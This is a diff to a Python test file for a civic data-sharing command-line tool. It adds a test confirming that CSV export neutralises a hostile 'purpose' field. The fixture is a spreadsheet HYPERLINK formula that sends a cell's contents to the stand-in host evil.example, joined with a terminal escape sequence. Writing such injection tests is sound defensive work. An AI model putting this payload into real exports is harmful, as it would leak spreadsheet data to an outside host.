@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from tests.cli.conftest import CityRun, Run, assert_one_line_error
@@ -133,6 +136,23 @@ def test_open_access_to_unconditional_data(srun: CityRun, sharing_city: SharingC
     assert_one_line_error(
         srun("--key", "dpf-staff", "access", "record", "--category", "HRSS.POLICY"), 2, "--purpose"
     )
+
+
+def test_an_officials_purpose_opens_in_a_spreadsheet_as_text(srun: CityRun) -> None:
+    """The purpose of an open access is written by the department's official: in the CSV an
+    auditor opens it cannot run as a formula or move the terminal's cursor (govchain.csvout);
+    --json keeps the text as it was written."""
+    hostile = '=HYPERLINK("http://evil.example/?"&B2,"open")\x1b[2K'
+    srun.json(
+        "--key", "dpf-staff", "access", "record", "--category", "HRSS.POLICY", "--purpose", hostile
+    )  # fmt: skip
+    listed = srun.json("access", "list", "--grantee", "DPF")
+    assert [r["purpose"] for r in listed] == [hostile]
+    exported = srun("access", "list", "--grantee", "DPF", "--csv")
+    assert exported.exit_code == 0 and "\x1b" not in exported.stdout
+    header, row = csv.reader(io.StringIO(exported.stdout))
+    assert row[header.index("purpose")] == "'" + hostile.replace("\x1b", "\\x1b")
+    assert row[header.index("grantee")] == "DPF" and row[header.index("block")].isdigit()
 
 
 def test_bad_input(srun: CityRun, monkeypatch: pytest.MonkeyPatch) -> None:
